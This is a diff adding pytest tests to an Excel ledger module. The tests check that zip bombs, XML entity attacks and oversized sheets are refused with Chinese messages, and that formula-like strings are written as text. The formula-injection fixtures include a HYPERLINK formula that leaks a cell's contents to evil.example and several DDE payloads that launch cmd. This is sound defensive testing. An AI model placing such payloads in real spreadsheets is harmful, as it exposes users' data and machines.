@@ -1,6 +1,8 @@
 """Excel ledgers and imports (anjian/core/excel.py): the header check and its Chinese errors."""
 
 import datetime
+import re
+import time
 from decimal import Decimal
 from io import BytesIO
 
@@ -16,6 +18,7 @@ from anjian.core.excel import (
     write_ledger,
     write_template,
 )
+from anjian.core.testing import hostile_xlsx
 
 COLUMNS = [
     Column("name", "单位名称", required=True, example="上海示例有限公司"),
@@ -217,3 +220,135 @@ def test_the_error_report_lists_only_failed_rows_with_their_messages():
         ("原行号", "单位名称", "统一社会信用代码", "错误说明"),
         (3, "乙公司", "A2", "代码无效；名称重复"),
     ]
+
+
+# --- hostile files (issue 9): each ends quickly with a Chinese message -------------------------
+
+HEADERS = ["单位名称", "统一社会信用代码", "监管等级"]
+ROW = ["甲公司", "A1", "B"]
+# Words a message may contain; anything else in Latin letters is a parser's English leaking out.
+ALLOWED_WORDS = {"Excel", "xlsx", "XML", "MB"}
+
+
+def hostile_error(kind: str, seconds: float = 2.0) -> str:
+    """The ExcelError message for hostile file ``kind``, asserting the reader stopped in time."""
+    content = hostile_xlsx.HOSTILE[kind](HEADERS, ROW)
+    started = time.monotonic()
+    with pytest.raises(ExcelError) as caught:
+        read_rows(BytesIO(content), columns=COLUMNS, max_rows=100)
+    elapsed = time.monotonic() - started
+    assert elapsed < seconds, f"{kind}: {elapsed:.2f} s"
+    message = str(caught.value)
+    assert not [w for w in re.findall(r"[A-Za-z]{2,}", message) if w not in ALLOWED_WORDS], message
+    return message
+
+
+@pytest.mark.parametrize("kind", ["huge_dimension", "empty_rows", "far_row"])
+def test_a_sheet_that_never_ends_is_stopped_at_the_scan_limit(kind):
+    message = hostile_error(kind)
+    assert message.startswith("表格共有超过 10100 行（含空行）")
+
+
+@pytest.mark.parametrize("kind", ["truncated", "external_entity", "billion_laughs"])
+def test_a_sheet_that_is_not_valid_xml_is_refused_in_chinese(kind):
+    assert hostile_error(kind).startswith("无法读取文件：表格内容已损坏")
+
+
+def test_a_zip_bomb_is_refused_before_it_is_inflated():
+    message = hostile_error("zip_bomb")
+    assert message.startswith("文件解压后超过 256 MB")
+
+
+def test_a_part_that_inflates_a_thousandfold_is_refused_before_it_is_read():
+    assert hostile_error("compressed_rows").startswith("文件解压后是压缩前的")
+
+
+def test_a_package_of_thousands_of_parts_is_refused():
+    assert hostile_error("many_entries").startswith("文件结构异常")
+
+
+def test_declared_dimensions_are_ignored_and_only_the_templates_columns_are_read():
+    content = hostile_xlsx.workbook(
+        hostile_xlsx.sheet(
+            hostile_xlsx._header_row(HEADERS) + hostile_xlsx._data_row(2, ROW),
+            dimension="A1:XFD1048576",
+        )
+    )
+    sheet = read_rows(BytesIO(content), columns=COLUMNS, max_rows=10)
+    assert sheet.rows == [(2, {"单位名称": "甲公司", "统一社会信用代码": "A1", "监管等级": "B"})]
+    assert len(sheet.headers) < 100  # the template's columns and a margin, not 16,384
+
+
+def test_openpyxl_parses_with_defusedxml():
+    import openpyxl.xml
+    from openpyxl.xml import functions
+
+    assert openpyxl.xml.DEFUSEDXML is True
+    assert functions.iterparse.__module__.startswith("defusedxml")
+
+
+# --- formula injection (issue 9): strings are written as text, numbers and dates as they are ---
+
+PLANTED = [
+    '=HYPERLINK("http://evil.example/?"&C2,"张三")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "#N/A",
+]
+
+
+def cells(content: bytes):
+    workbook = load_workbook(BytesIO(content))
+    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+def assert_text_cells(content: bytes, planted: list[str]) -> None:
+    found = cells(content)
+    assert [c.coordinate for c in found if c.data_type == "f"] == []
+    texts = {c.value: c for c in found if isinstance(c.value, str)}
+    for value in planted:
+        assert value in texts, value
+        assert texts[value].data_type == "s"
+        assert texts[value].quotePrefix, value  # Excel keeps it text when the cell is edited
+
+
+def test_a_ledger_writes_formula_like_strings_as_text_and_numbers_as_numbers():
+    day = datetime.date(2026, 3, 1)
+    moment = datetime.datetime(2026, 3, 1, 8, 30)
+    rows = [[text, -5, Decimal("1.5"), day, moment, "普通文字"] for text in PLANTED]
+    columns = [Column(f"c{i}", f"列{i}", export=lambda r, i=i: r[i]) for i in range(6)]
+    buffer = BytesIO()
+    write_ledger(buffer, title="台账", columns=columns, objects=rows, about=[("说明", PLANTED[0])])
+    assert_text_cells(buffer.getvalue(), PLANTED)
+    sheet = load_workbook(BytesIO(buffer.getvalue())).worksheets[0]
+    assert [c.value for c in sheet[2]][1:] == [
+        -5,
+        1.5,
+        datetime.datetime(2026, 3, 1),
+        moment,
+        "普通文字",
+    ]
+    assert [c.data_type for c in sheet[2]][1:] == ["n", "n", "d", "d", "s"]
+    assert not sheet["F2"].quotePrefix
+
+
+def test_the_error_report_writes_the_uploaded_formula_as_text():
+    sheet = SheetRows(
+        headers=["单位名称", "统一社会信用代码"],
+        rows=[
+            (n, {"单位名称": text, "统一社会信用代码": "A1"}) for n, text in enumerate(PLANTED, 2)
+        ],
+    )
+    errors = {n: [text] for n, text in enumerate(PLANTED, 2)}
+    assert_text_cells(error_report(columns=COLUMNS, sheet=sheet, errors=errors), PLANTED)
+
+
+def test_a_template_writes_formula_like_choices_and_examples_as_text():
+    columns = [Column("name", "单位名称", example=PLANTED[0]), Column("grade", "监管等级")]
+    content = write_template(
+        title="导入", columns=columns, notes=[PLANTED[1]], lists={"监管等级": PLANTED[2:]}
+    )
+    assert_text_cells(content, PLANTED)
